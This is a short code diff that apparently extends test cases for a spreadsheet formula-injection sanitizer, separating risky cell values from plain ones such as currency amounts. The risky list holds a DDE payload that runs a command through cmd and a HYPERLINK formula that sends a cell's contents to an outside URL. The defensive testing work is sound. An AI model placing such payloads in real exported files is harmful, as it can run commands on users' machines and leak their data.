@@ -32,9 +32,14 @@ RUN = [
     "＠SUM",
     '=HYPERLINK("http://example.com?"&A1)',
     "- milk",
+    "-83,29 €+cmd|' /C calc'!A0",
+    "-5 €\n=1",
 ]
 PLAIN = [
     "",
+    "-83,29 €",
+    "-$1,234.50",
+    "-45 %",
     "plain",
     "a=b",
     "1+1",
